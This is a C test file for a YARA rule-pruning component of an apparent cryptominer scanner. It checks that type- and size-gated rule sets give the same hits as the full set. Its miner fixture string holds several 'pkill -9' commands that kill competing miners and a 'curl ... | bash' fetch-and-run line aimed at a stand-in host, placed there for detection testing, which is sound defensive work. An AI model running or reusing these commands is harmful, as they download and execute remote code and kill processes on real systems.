/*
 * test_ruleprune.c - rule sets cut to an object's kind (issue 12,
 * scanner/ruleprune.h): what the reader decides from a condition, that
 * the cut text compiles with libyara to the same rules, and that scans
 * with the cut sets give exactly the hits of the whole set (built-in and
 * user rules, objects of every kind and size class).
 */
#include <criterion/criterion.h>
#include <stdlib.h>
#include <string.h>
#include <yara.h>

#include "engine.h"
#include "minerscan.h"
#include "ruleprune.h"
#include "util.h"

TestSuite(ruleprune, .init = t_tmp_setup, .fini = t_tmp_teardown, .timeout = 300);

/* Each rule's name says what it must be for a 5 MiB ELF: cut_* are false
 * for it, keep_* are not (unknown or true). */
static const char gated[] =
    "import \"pe\"\n"
    "/* a comment that says rule fake { condition: false } */\n"
    "// rule fake2 { condition: true }\n"
    "rule cut_small { strings: $a = \"kill -9\" condition: filesize < 4MB and $a }\n"
    "rule cut_small_le { strings: $a = \"x\" condition: filesize <= 1048576 and #a > 2 }\n"
    "rule cut_pe : tag1 tag2 { meta: author = \"t\" score = 70 strings: $a = { 4D 5A ?? [2-4] 00 } "
    "condition: uint16(0) == 0x5a4d and $a }\n"
    "rule cut_pe_and_small { strings: $r = /ab\\/c\\}d\"e/ nocase condition: "
    "uint16(0) == 0x5A4D and filesize < 2MB and $r }\n"
    "private rule is_pe { condition: uint16(0) == 0x5a4d }\n"
    "rule cut_by_reference { strings: $a = \"zz\" wide xor(1-3) condition: is_pe and $a }\n"
    "rule cut_both_sides_false { strings: $a = \"q\" base64(\"!@#$%^&*(){}[].,|ABCDEFGHIJ\\x09LMNOPQRSTUVWXYZabcdefghijklmnopqrstu\") "
    "condition: (filesize < 100KB and $a) or (uint32(0) == 0x00905a4d) }\n"
    "rule cut_wasm { strings: $1 = \"memory\" condition: uint32(0) == 0x6d736100 and $1 }\n"
    "rule cut_not_elf { condition: not (uint32(0) == 0x464c457f) }\n"
    "rule cut_false { condition: false }\n"
    "rule keep_or { strings: $a = \"pool\" condition: filesize < 4MB or $a }\n"
    "rule keep_not { strings: $a = \"pool\" condition: not filesize < 4MB and $a }\n"
    "rule keep_arith { strings: $a = \"pool\" condition: filesize < 4MB + 2MB and $a }\n"
    "rule keep_other_offset { condition: uint16(0x3c) == 0x5a4d }\n"
    "rule keep_elf { strings: $a = \"pool\" condition: uint32(0) == 0x464c457f and $a }\n"
    "rule keep_module { condition: pe.number_of_sections > 2 and filesize > 10 }\n"
    "rule keep_for { strings: $a = \"and\" condition: for any i in (1..#a) : (@a[i] < 100 and filesize < 4MB) "
    "or uint8(0) == 0x7f }\n"
    "rule keep_matches { condition: pe.sections[0].name matches /and|or\\// }\n"
    "global rule keep_global { condition: filesize > 0 }\n";

static size_t decide(ms_prune *p, ms_head h, uint64_t min, uint8_t *off) {
    return ms_prune_decide(p, h, min, off);
}

Test(ruleprune, decides_only_what_the_condition_proves) {
    ms_prune *p = ms_prune_new();
    cr_assert(ms_prune_add(p, gated, strlen(gated), "t"), "the file is followed");
    size_t n = ms_prune_rules(p);
    cr_assert_eq(n, 19, "every rule is found, the commented ones are not: %zu", n);
    uint8_t off[32];
    size_t cut = decide(p, MS_HEAD_ELF, 4u << 20, off);
    /* the names say it: rules in source order */
    static const char *const names[] = {
        "cut_small", "cut_small_le", "cut_pe", "cut_pe_and_small", "is_pe", "cut_by_reference",
        "cut_both_sides_false", "cut_wasm", "cut_not_elf", "cut_false", "keep_or", "keep_not", "keep_arith",
        "keep_other_offset", "keep_elf", "keep_module", "keep_for", "keep_matches", "keep_global"};
    /* is_pe (private, false for an ELF) is cut too */
    size_t want_cut = 0;
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        bool expect = !strncmp(names[i], "cut_", 4) || !strcmp(names[i], "is_pe");
        want_cut += expect;
        cr_expect_eq(off[i], expect, "%s for a 4 MiB ELF: %s", names[i], off[i] ? "cut" : "kept");
    }
    cr_assert_eq(cut, want_cut);
    (void)n;

    /* a small ELF: only the header tests decide */
    decide(p, MS_HEAD_ELF, 0, off);
    cr_assert_eq(off[0], 0, "filesize < 4MB is unknown for small objects");
    cr_assert_eq(off[2], 1, "uint16(0) == 0x5a4d is false for an ELF of any size");
    cr_assert_eq(off[6], 0, "filesize < 100KB or a PE header: unknown for a small ELF");
    /* a PE: the PE rules stay, the ELF ones go */
    decide(p, MS_HEAD_MZ, 0, off);
    cr_assert_eq(off[2], 0, "a PE rule is kept for a PE");
    cr_assert_eq(off[5], 0, "is_pe is true for a PE: the reference stays");
    cr_assert_eq(off[8], 0, "not ELF: true for a PE");
    cr_assert_eq(off[14], 1, "an ELF-only rule is false for a PE");
    cr_assert_eq(off[6], 0, "uint32(0) == 0x00905a4d is unknown when only MZ is known");
    /* anything else (text, archives): neither header */
    decide(p, MS_HEAD_OTHER, 0, off);
    cr_assert_eq(off[2], 1);
    cr_assert_eq(off[14], 1);
    cr_assert_eq(off[7], 0, "the wasm header may be there");
    /* nothing known of the first bytes (Mach-O, fewer than 4 bytes) */
    decide(p, MS_HEAD_ANY, 0, off);
    for (size_t i = 0; i < n; i++)
        cr_assert_eq(off[i], i == 9, "only 'false' is false when nothing is known (rule %zu)", i);
    ms_prune_free(p);
}

Test(ruleprune, what_it_cannot_follow_is_never_cut) {
    static const char *const whole[] = {
        "include \"other.yar\"\nrule a { condition: filesize < 10 }\n",
        "rule a { condition: filesize < 10 \n",   /* no end */
        "rule a { strings: $a = \"open condition: filesize < 10 }\n",
        "rule a { condition: filesize < 10 } @@@\n",
    };
    for (size_t i = 0; i < sizeof(whole) / sizeof(whole[0]); i++) {
        ms_prune *p = ms_prune_new();
        cr_assert_not(ms_prune_add(p, whole[i], strlen(whole[i]), "t"), "case %zu is not followed", i);
        cr_assert_eq(ms_prune_rules(p), 0, "case %zu: its rules are unknown", i);
        uint8_t off[4] = {0};
        cr_assert_eq(ms_prune_decide(p, MS_HEAD_ELF, 64u << 20, off), 0);
        cr_assert_null(ms_prune_text(p, 0, off));
        ms_prune_free(p);
    }
    /* a reference to a rule of another namespace is unknown */
    ms_prune *p = ms_prune_new();
    const char a[] = "rule small { condition: filesize < 10 }\n";
    const char b[] = "rule small2 { condition: filesize < 10 }\nrule uses { condition: small }\n";
    cr_assert(ms_prune_add(p, a, strlen(a), "ns1"));
    cr_assert(ms_prune_add(p, b, strlen(b), "ns2"));
    uint8_t off[3];
    cr_assert_eq(ms_prune_decide(p, MS_HEAD_ANY, 1u << 20, off), 2);
    cr_assert_eq(off[2], 0, "'small' is not a rule of ns2");
    ms_prune_free(p);
}

static int compile_ok(const char *text, YR_RULES **ret) {
    YR_COMPILER *c = NULL;
    cr_assert_eq(yr_compiler_create(&c), ERROR_SUCCESS);
    int errors = yr_compiler_add_string(c, text, "t");
    if (errors == 0)
        cr_assert_eq(yr_compiler_get_rules(c, ret), ERROR_SUCCESS);
    yr_compiler_destroy(c);
    return errors;
}

Test(ruleprune, the_cut_text_compiles_to_the_same_rules) {
    cr_assert_eq(yr_initialize(), ERROR_SUCCESS);
    ms_prune *p = ms_prune_new();
    cr_assert(ms_prune_add(p, gated, strlen(gated), "t"));
    uint8_t off[32];
    cr_assert_gt(ms_prune_decide(p, MS_HEAD_ELF, 4u << 20, off), 0);
    char *text = ms_prune_text(p, 0, off);
    cr_assert_not_null(text);
    YR_RULES *whole = NULL, *cut = NULL;
    cr_assert_eq(compile_ok(gated, &whole), 0);
    cr_assert_eq(compile_ok(text, &cut), 0, "the cut text compiles:\n%s", text);
    /* the same rules in the same order, with their tags and metadata */
    YR_RULE *r1, *r2;
    size_t n1 = 0, n2 = 0;
    yr_rules_foreach(whole, r1) n1++;
    yr_rules_foreach(cut, r2) n2++;
    cr_assert_eq(n1, n2);
    r2 = cut->rules_table;
    yr_rules_foreach(whole, r1) {
        cr_assert_str_eq(r1->identifier, r2->identifier);
        cr_assert_eq(RULE_IS_PRIVATE(r1), RULE_IS_PRIVATE(r2));
        cr_assert_eq(RULE_IS_GLOBAL(r1), RULE_IS_GLOBAL(r2));
        if (!strcmp(r1->identifier, "cut_pe")) {
            cr_assert_str_eq(r2->tags, "tag1");
            YR_META *m;
            int metas = 0;
            yr_rule_metas_foreach(r2, m) metas++;
            cr_assert_eq(metas, 2, "metadata kept");
        }
        r2++;
    }
    cr_assert_null(strstr(text, "kill -9"), "a cut rule's strings are gone");
    cr_assert_not_null(strstr(text, "\"pool\""), "a kept rule's are not");
    yr_rules_destroy(whole);
    yr_rules_destroy(cut);
    free(text);
    ms_prune_free(p);
    yr_finalize();
}

/* ---- scans: the cut sets give the whole set's hits ---- */

typedef struct {
    char names[4096];
} hits;

static int keep_hits(void *ud, ms_verdict *v) {
    hits *h = ud;
    for (size_t i = 0; i < v->n_rules; i++) {
        strncat(h->names, v->rules[i].rule, sizeof(h->names) - strlen(h->names) - 2);
        strncat(h->names, " ", sizeof(h->names) - strlen(h->names) - 1);
    }
    ms_verdict_free(v);
    return MS_CONTINUE;
}

/* Objects of every head and size class that hit built-in and user rules. */
typedef struct {
    uint8_t *data;
    size_t size;
    const char *name;
} object;

static object make(const char *name, const char *head, size_t headlen, const char *body, size_t size) {
    object o = {.data = calloc(1, size), .size = size, .name = name};
    cr_assert_not_null(o.data);
    memset(o.data, 'A', size);
    memcpy(o.data, head, headlen);
    size_t bl = strlen(body);
    memcpy(o.data + 64, body, bl);
    memcpy(o.data + size - bl - 1, body, bl); /* near the end of a big one too */
    return o;
}

static const char miner_body[] =
    "\nXMRig 6.21.0 built for linux\ndonate.v2.xmrig.com max-threads-hint huge-pages-jit\n"
    "donate-level 1\nrandomx\nuse pool stratum+tcp://pool.example.com:3333\nnew job from pool\n"
    "mining.subscribe mining.submit\npkill -9 xmrig; pkill -9 kinsing; pkill -9 kdevtmpfsi; pkill -9 minerd; "
    "pkill -9 cryptonight; killall -9 xmr-stak\ncurl -s http://x.example/x.sh | bash\n";

static const char user_rules[] =
    "rule u_small { strings: $a = \"mining.subscribe\" condition: filesize < 2MB and $a }\n"
    "rule u_pe { strings: $a = \"randomx\" condition: uint16(0) == 0x5a4d and $a }\n"
    "rule u_elf_big { strings: $a = \"randomx\" condition: uint32(0) == 0x464c457f and not filesize < 4MB and $a }\n"
    "rule u_any { strings: $a = \"stratum+tcp\" condition: $a }\n";

static void scan_all(const object *obs, size_t n, const char *mode, const char *rules, hits *out,
                     size_t *ret_cut) {
    setenv("MINERSCAN_RULE_CUT", mode, 1);
    ms_options o;
    ms_options_default(&o);
    const char *rv[] = {rules};
    o.rules = rv;
    o.n_rules = rules ? 1 : 0;
    ms_engine *e = NULL;
    ms_worker *w = NULL;
    char *err = NULL;
    int r = ms_engine_new(&o, &e, &err);
    cr_assert_eq(r, 0, "%s", err ? err : "");
    cr_assert_eq(ms_worker_new(e, &w), 0);
    for (size_t i = 0; i < n; i++) {
        ms_sink sink = {.emit = keep_hits, .ud = &out[i]};
        cr_assert_geq(ms_worker_scan_buffer(w, obs[i].data, obs[i].size, obs[i].name, strlen(obs[i].name), &sink),
                      0);
    }
    *ret_cut = ms_engine_cut_sets(e);
    ms_worker_free(w);
    ms_engine_free(e);
    unsetenv("MINERSCAN_RULE_CUT");
}

Test(ruleprune, cut_sets_give_the_hits_of_the_whole_set) {
    char *rules = t_write_str(t_tmp, "user.yar", user_rules);
    object obs[] = {
        make("small.elf", "\x7f" "ELF\x02\x01\x01", 7, miner_body, 64 << 10),
        make("big.elf", "\x7f" "ELF\x02\x01\x01", 7, miner_body, 5 << 20),
        make("huge.elf", "\x7f" "ELF\x02\x01\x01", 7, miner_body, 17 << 20),
        make("small.exe", "MZ\x90\x00", 4, miner_body, 64 << 10),
        make("big.exe", "MZ\x90\x00", 4, miner_body, 3 << 20),
        /* in the 1 MiB class, under u_small's 2 MB */
        make("mid.exe", "MZ\x90\x00", 4, miner_body, (3 << 20) / 2),
        make("drop.sh", "#!/bin/sh\n", 10, miner_body, 8 << 10),
        make("big.sh", "#!/bin/sh\n", 10, miner_body, 5 << 20),
        make("macho", "\xcf\xfa\xed\xfe", 4, miner_body, 2 << 20),
        make("tiny", "MZ", 2, "", 3),
    };
    size_t n = sizeof(obs) / sizeof(obs[0]);
    hits whole[16] = {0}, cut[16] = {0};
    size_t cut_sets_off = 0, cut_sets_on = 0;
    scan_all(obs, n, "off", rules, whole, &cut_sets_off);
    scan_all(obs, n, "always", rules, cut, &cut_sets_on);
    cr_assert_eq(cut_sets_off, 0);
    cr_assert_geq(cut_sets_on, 4, "the classes met got their cut sets: %zu", cut_sets_on);
    size_t total = 0;
    for (size_t i = 0; i < n; i++) {
        cr_expect_str_eq(cut[i].names, whole[i].names, "%s: cut sets hit [%s], the whole set [%s]", obs[i].name,
                         cut[i].names, whole[i].names);
        for (const char *s = whole[i].names; *s; s++)
            total += *s == ' ';
    }
    /* the fixtures do reach the gated rules */
    cr_assert_geq(total, 30, "%zu hits", total);
    cr_assert_not_null(strstr(whole[1].names, "u_elf_big"));
    cr_assert_null(strstr(whole[1].names, "u_small"));
    cr_assert_not_null(strstr(whole[3].names, "u_pe"));
    cr_assert_not_null(strstr(whole[5].names, "u_small"), "%s", whole[5].names);
    cr_assert_not_null(strstr(whole[6].names, "dropper_kill_competitors"), "%s", whole[6].names);
    cr_assert_null(strstr(whole[7].names, "dropper_kill_competitors"), "%s", whole[7].names);
    for (size_t i = 0; i < n; i++)
        free(obs[i].data);
    free(rules);
}

/* The built-in rules alone (no user rules): the cut sets of the blob's
 * sources, the same hits. */
Test(ruleprune, builtin_cut_sets_give_the_same_hits) {
    object obs[] = {
        make("big.elf", "\x7f" "ELF\x02\x01\x01", 7, miner_body, 5 << 20),
        make("drop.sh", "#!/bin/sh\n", 10, miner_body, 8 << 10),
        make("config.json", "{\n", 2, miner_body, 4 << 10),
    };
    size_t n = sizeof(obs) / sizeof(obs[0]);
    hits whole[4] = {0}, cut[4] = {0};
    size_t off_sets, on_sets;
    scan_all(obs, n, "off", NULL, whole, &off_sets);
    scan_all(obs, n, "always", NULL, cut, &on_sets);
    cr_assert_gt(on_sets, 0);
    for (size_t i = 0; i < n; i++) {
        cr_assert_str_eq(cut[i].names, whole[i].names, "%s", obs[i].name);
        cr_assert_neq(whole[i].names[0], '\0', "%s hits the built-in rules", obs[i].name);
    }
    for (size_t i = 0; i < n; i++)
        free(obs[i].data);
}
